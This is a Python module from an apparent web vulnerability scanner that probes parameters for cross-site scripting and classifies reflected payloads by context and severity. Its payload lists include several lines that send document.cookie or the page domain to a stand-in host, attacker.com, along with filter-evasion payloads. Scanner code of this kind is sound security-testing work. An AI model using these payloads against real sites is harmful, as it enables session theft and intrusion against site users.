import re
from typing import Any, Dict, List, Optional
from urllib.parse import unquote

from bughunt.checkers.base import BaseChecker
from bughunt.core.catalog import ALL, PayloadCatalog
from bughunt.core.models import (
    BaselineData, CatalogEntry, Finding, Intensity, PayloadOutcome, Severity,
)

XSS_PAYLOADS = {
    "basic": {"html": [
        "<script>alert('XSS')</script>",
        "<img src=x onerror=alert('XSS')>",
        "<svg onload=alert('XSS')>",
        "javascript:alert('XSS')",
        "<iframe src=javascript:alert('XSS')>",
    ]},
    "reflected": {"html": [
        "<script>alert(document.domain)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg/onload=alert('Reflected XSS')>",
        "';alert('XSS');//",
        '";alert("XSS");//',
        "</script><script>alert('XSS')</script>",
    ]},
    "stored": {"html": [
        "<script>alert('Stored XSS')</script>",
        "<img src=x onerror=fetch('//attacker.com?cookie='+document.cookie)>",
        "<svg onload=alert('Persistent XSS')>",
        "<iframe src=javascript:alert('Stored')></iframe>",
    ]},
    "dom": {"html": [
        "<img src=x onerror=alert('DOM XSS')>",
        "<svg onload=alert(location.hash)>",
        "<script>eval(location.hash.substr(1))</script>",
        "javascript:alert('DOM-based')",
    ]},
    "blind": {"html": [
        "<script>fetch('//attacker.com/log?data='+document.cookie)</script>",
        "<img src='//attacker.com/pixel.gif?xss=1'>",
        "<script>new Image().src='//attacker.com?'+document.domain</script>",
    ]},
}

EVASION_PAYLOADS = {
    "evasion": {"html": [
        "<ScRiPt>alert('XSS')</ScRiPt>",
        "<script>alert(String.fromCharCode(88,83,83))</script>",
        "<img src=x onerror=eval(atob('YWxlcnQoJ1hTUycpOw=='))>",
        "<svg><script>alert&#40;'XSS'&#41;</script>",
        "<iframe src=data:text/html,<script>alert('XSS')</script>>",
        "<%2Fscript%3E%3Cscript%3Ealert('XSS')%3C%2Fscript%3E",
    ]},
}

CATALOG = PayloadCatalog(XSS_PAYLOADS)
EVASION = PayloadCatalog(EVASION_PAYLOADS)

PAYLOAD_TYPES = [ALL] + CATALOG.techniques

# indicator -> pattern that only matches live markup, not an escaped echo
XSS_INDICATORS = {
    "<script": re.compile(r"<script\b"),
    "onerror": re.compile(r"<[^>]+\bonerror\s*="),
    "onload": re.compile(r"<[^>]+\bonload\s*="),
    "javascript:": re.compile(r"""\b(?:href|src|action)\s*=\s*["']?\s*javascript:"""),
    "alert(": re.compile(r"<script[^>]*>[^<]*\balert\("),
    "eval(": re.compile(r"<script[^>]*>[^<]*\beval\("),
}


def _decode(text: str) -> str:
    return unquote((text or "").lower())


def determine_context(body: str, payload: str) -> str:
    lower = (body or "").lower()
    p = payload.lower()

    if f'value="{p}"' in lower:
        return "HTML_ATTRIBUTE"
    if "<script" in lower and p in lower:
        return "JAVASCRIPT"
    if "<style" in lower and p in lower:
        return "CSS"
    if "<!--" in lower and p in lower:
        return "HTML_COMMENT"
    if "href=" in lower and p in lower:
        return "URL"
    return "HTML_BODY"


class XSS(BaseChecker):
    """
    Reflected XSS.

    A request is positive when the payload comes back verbatim (case-insensitive,
    URL-decoded), or when it introduces an XSS indicator token the clean page
    did not have. No DOM is executed; this is a server-side heuristic.
    """

    name = "Cross-Site Scripting (XSS)"
    caps = {Intensity.LOW: 5, Intensity.MEDIUM: 10, Intensity.HIGH: 20}

    def __init__(self, url: str, parameters: Optional[str] = None,
                 payload_type: str = ALL, intensity=Intensity.MEDIUM, timeout=10):
        super().__init__(url, parameters, intensity, timeout)
        payload_type = str(payload_type).lower()
        self.payload_type = payload_type if payload_type in PAYLOAD_TYPES else "basic"

    @classmethod
    def from_request(cls, data: Dict[str, Any]) -> "XSS":
        opt = cls.option
        return cls(
            url=data.get("url"),
            parameters=data.get("parameters"),
            payload_type=opt(data, "payloadType", ALL),
            intensity=opt(data, "intensity", "medium", ["low", "medium", "high"]),
            timeout=opt(data, "timeout", 10),
        )

    def get_payloads(self) -> List[CatalogEntry]:
        if self.payload_type in (ALL, "basic"):
            payloads = CATALOG.base(self.payload_type)
        else:
            payloads = CATALOG.base("basic") + CATALOG.base(self.payload_type)

        evasion = EVASION.base()
        if self.intensity is Intensity.MEDIUM:
            payloads += evasion[:3]
        elif self.intensity is Intensity.HIGH:
            payloads += evasion
        return payloads

    def configuration(self) -> Dict[str, Any]:
        return {
            "payloadType": self.payload_type,
            "intensity": self.intensity.value,
        }

    @staticmethod
    def severity(context: str, payload: str) -> Severity:
        if context == "JAVASCRIPT" or "document.cookie" in payload:
            return Severity.HIGH
        if context in ("HTML_BODY", "HTML_ATTRIBUTE"):
            return Severity.MEDIUM
        return Severity.LOW

    def classify(self, outcome: PayloadOutcome,
                 baseline: Optional[BaselineData] = None) -> Optional[Finding]:
        baseline = baseline or BaselineData()
        payload = outcome.request.payload
        body = outcome.response_signal.body or ""
        decoded = _decode(body)

        p = payload.lower()
        if p in decoded or p in body.lower():
            context = determine_context(body, payload)
            evidence = f"Payload reflected unescaped ({context})"
        else:
            raw, clean = body.lower(), (baseline.body or "").lower()
            introduced = [token for token, rx in XSS_INDICATORS.items()
                          if rx.search(raw) and not rx.search(clean)]
            if not introduced:
                return None
            context = determine_context(body, payload)
            evidence = f"XSS indicator introduced by payload: {introduced[0]}"

        kind = "DOM-based XSS" if self.payload_type == "dom" else "Reflected XSS"
        return self.finding(
            outcome,
            severity=self.severity(context, payload),
            evidence=evidence,
            discriminator=payload,
            vulnerability_type=kind,
            context=context,
        )
